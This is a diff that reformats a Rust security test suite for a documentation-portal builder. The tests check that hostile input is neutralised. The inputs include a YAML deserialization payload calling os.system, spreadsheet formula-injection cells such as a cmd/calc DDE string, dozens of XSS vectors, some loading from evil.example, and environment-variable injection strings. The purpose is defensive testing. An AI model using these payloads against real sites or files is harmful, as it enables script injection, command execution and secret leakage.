@@ -10,7 +10,8 @@ fn product(id: &str) -> String {
 #[test]
 fn what_is_no_text_is_said_with_its_place() {
     let latin: Vec<u8> = product("latin").replace("Levels", "Caf\u{e9}").chars().map(|c| c as u8).collect();
-    let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(product("wide").encode_utf16().flat_map(u16::to_le_bytes)).collect();
+    let wide: Vec<u8> =
+        [0xff, 0xfe].into_iter().chain(product("wide").encode_utf16().flat_map(u16::to_le_bytes)).collect();
     let built = survive(Folder::new([
         ("a/latin.odps.yaml", latin),
         ("a/wide.odps.yaml", wide),
@@ -20,7 +21,11 @@ fn what_is_no_text_is_said_with_its_place() {
         ("a/twice.odps.yaml", format!("{}name: Again\n", product("twice")).into()),
         ("a/bom.odps.yaml", format!("\u{feff}{}", product("bom")).into()),
         ("a/crlf.odps.yaml", product("crlf").replace('\n', "\r\n").into()),
-        ("a/tags.odps.yaml", format!("{}x: !!python/object/apply:os.system [touch /tmp/x]\ny: !ruby/object:Gem x\n", product("tags")).into()),
+        (
+            "a/tags.odps.yaml",
+            format!("{}x: !!python/object/apply:os.system [touch /tmp/x]\ny: !ruby/object:Gem x\n", product("tags"))
+                .into(),
+        ),
         ("a/latin.md", b"# Caf\xe9\n".to_vec()),
         ("a/empty.odps.yaml", Vec::new()),
         ("a/list.odps.yaml", b"- a\n- b\n".to_vec()),
@@ -51,9 +56,14 @@ fn no_cell_of_a_download_is_a_formula() {
     let cells = ["=1+1", "+1", "-1", "@SUM(A1)", "\\t=1", "=cmd|'/c calc'!A1", "DE"];
     let values: Vec<String> = cells
         .iter()
-        .map(|cell| format!("- {{value: {0}, label: {0}, description: {0}}}\n", serde_json::to_string(cell).expect("JSON")))
+        .map(|cell| {
+            format!("- {{value: {0}, label: {0}, description: {0}}}\n", serde_json::to_string(cell).expect("JSON"))
+        })
         .collect();
-    let mesh = Folder::new([("codes/l.yaml", format!("apiVersion: v1.0.0\nkind: CodeList\nid: l\nname: L\nvalues:\n{}", values.concat()))]);
+    let mesh = Folder::new([(
+        "codes/l.yaml",
+        format!("apiVersion: v1.0.0\nkind: CodeList\nid: l\nname: L\nvalues:\n{}", values.concat()),
+    )]);
     mesh.write("codes/m.yaml", "apiVersion: v1.0.0\nkind: CodeList\nid: m\nfile: m.csv\n");
     mesh.write("codes/m.csv", "value,label\n=HYPERLINK(A1),@x\n-2,+3\n");
     let built = survive(mesh);
@@ -74,20 +84,45 @@ fn no_cell_of_a_download_is_a_formula() {
 #[test]
 fn raw_html_of_documents_is_tamed() {
     let vectors = [
-        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
-        "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<body onload=alert(1)>",
-        "<details open ontoggle=alert(1)>x</details>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object>",
-        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<style>@import 'https://evil.example/x.css'</style>",
-        "<div style='background:url(javascript:alert(1))'>x</div>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
-        "<a href='x' id='__proto__' name='constructor'>x</a>", "<form id=portal><input name=action></form>", "<!--><script>alert(1)</script>-->",
-        "<![CDATA[<script>alert(1)</script>]]>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<a title='\"><script>alert(1)</script>'>x</a>",
-        "<img src='a.png' srcset='https://evil.example/x 2x'>", "<video poster='https://evil.example/x' src='https://evil.example/y' autoplay></video>",
-        "<img src='https://evil.example/track.gif'>", "<audio src=x onloadstart=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
-        "<p class='search-results' id='search'>x</p>", "# heading {onclick=alert(1)}", "## h {#__proto__ .x onmouseover=alert(1)}",
-        "[x](https://example.org \"' onclick='alert(1)\")", "![x](a.png \"\\\" onerror=\\\"alert(1)\")", "`<script>alert(1)</script>`",
-        "```html onclick=alert(1)\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "|<img src=x onerror=alert(1)>|\n|-|\n|<script>x</script>|",
-        "[^<script>]: x\n\n[^<script>]", "<https://example.org/\"onclick=\"alert(1)>", "\u{2028}<script>alert(1)</script>",
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+        "<body onload=alert(1)>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        "<object data=x></object>",
+        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+        "<style>@import 'https://evil.example/x.css'</style>",
+        "<div style='background:url(javascript:alert(1))'>x</div>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+        "<template><script>alert(1)</script></template>",
+        "<a href='x' id='__proto__' name='constructor'>x</a>",
+        "<form id=portal><input name=action></form>",
+        "<!--><script>alert(1)</script>-->",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+        "<a title='\"><script>alert(1)</script>'>x</a>",
+        "<img src='a.png' srcset='https://evil.example/x 2x'>",
+        "<video poster='https://evil.example/x' src='https://evil.example/y' autoplay></video>",
+        "<img src='https://evil.example/track.gif'>",
+        "<audio src=x onloadstart=alert(1)>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<p class='search-results' id='search'>x</p>",
+        "# heading {onclick=alert(1)}",
+        "## h {#__proto__ .x onmouseover=alert(1)}",
+        "[x](https://example.org \"' onclick='alert(1)\")",
+        "![x](a.png \"\\\" onerror=\\\"alert(1)\")",
+        "`<script>alert(1)</script>`",
+        "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
+        "```\"><script>alert(1)</script>\nx\n```",
+        "|<img src=x onerror=alert(1)>|\n|-|\n|<script>x</script>|",
+        "[^<script>]: x\n\n[^<script>]",
+        "<https://example.org/\"onclick=\"alert(1)>",
+        "\u{2028}<script>alert(1)</script>",
     ];
     let mut files: Vec<(String, String)> = Vec::new();
     for (number, vector) in vectors.iter().enumerate() {
@@ -96,23 +131,42 @@ fn raw_html_of_documents_is_tamed() {
     files.push(("a/README.md".into(), vectors.join("\n\n")));
     files.push(("README.md".into(), vectors.join("\n\n")));
     let block = vectors.join("\n\n").replace('\n', "\n    ");
-    files.push(("a/a.odps.yaml".into(), format!("{}x-notes: |\n    {block}\n", product("a").replace("{purpose: Levels of all lakes.}", &format!("\n  purpose: |\n    {block}\n  usage: |\n    {block}\n  limitations: |\n    {block}\n")))));
-    files.push(("a/image.svg".into(), "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".into()));
+    files.push((
+        "a/a.odps.yaml".into(),
+        format!(
+            "{}x-notes: |\n    {block}\n",
+            product("a").replace(
+                "{purpose: Levels of all lakes.}",
+                &format!("\n  purpose: |\n    {block}\n  usage: |\n    {block}\n  limitations: |\n    {block}\n")
+            )
+        ),
+    ));
+    files
+        .push(("a/image.svg".into(), "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".into()));
     files.push(("a/page.html".into(), "<script>alert(1)</script>".into()));
     let built = survive(Folder::new(files));
     let mut asked = Vec::new();
     for (url, page) in &built.portal.pages {
         for (element, name, link) in page.addresses() {
-            if element.name != "a" && element.name != "link" && (link.contains("evil.example") || link.starts_with("//")) {
+            if element.name != "a"
+                && element.name != "link"
+                && (link.contains("evil.example") || link.starts_with("//"))
+            {
                 asked.push(format!("{url}: <{} {name}={link}>", element.name));
             }
         }
         for element in &page.elements {
             for (name, value) in &element.attributes {
-                if name.contains("srcset") || (name == "class" && value.contains("search-results") && element.main && url.contains("docs")) {
+                if name.contains("srcset")
+                    || (name == "class" && value.contains("search-results") && element.main && url.contains("docs"))
+                {
                     asked.push(format!("{url}: <{} {name}={value}>", element.name));
                 }
-                if (name == "id" || name == "name") && ["__proto__", "constructor", "portal", "search"].contains(&value.as_str()) && url.contains("docs/v") && element.main {
+                if (name == "id" || name == "name")
+                    && ["__proto__", "constructor", "portal", "search"].contains(&value.as_str())
+                    && url.contains("docs/v")
+                    && element.main
+                {
                     asked.push(format!("{url}: <{} {name}={value}>", element.name));
                 }
             }
@@ -126,12 +180,21 @@ fn raw_html_of_documents_is_tamed() {
 fn nothing_of_the_environment_is_in_the_portal() {
     let mesh = Folder::new([(
         "a/a.odps.yaml",
-        product("a").replace("Levels of all lakes.", "\"${SECRET} $SECRET {{ get_env(name='SECRET') }} %SECRET% $(echo $SECRET)\""),
+        product("a").replace(
+            "Levels of all lakes.",
+            "\"${SECRET} $SECRET {{ get_env(name='SECRET') }} %SECRET% $(echo $SECRET)\"",
+        ),
     )]);
     mesh.write("b/broken.odps.yaml", "apiVersion: v1.0.0\nkind: DataProduct\nid: ${SECRET}\nname: [\n");
     let secret = "c0ffee-canary-5d1f";
     let mut said = String::new();
-    for arguments in [&["check"][..], &["check", "--format", "json"], &["build", "--allow-errors"], &["search", "SECRET"], &["build", "-o", "/proc/x"]] {
+    for arguments in [
+        &["check"][..],
+        &["check", "--format", "json"],
+        &["build", "--allow-errors"],
+        &["search", "SECRET"],
+        &["build", "-o", "/proc/x"],
+    ] {
         let ran = run(meshdoc(arguments).current_dir(&mesh.root).env("SECRET", secret).env("GITHUB_TOKEN", secret));
         said += &(ran.stdout + &ran.stderr);
     }
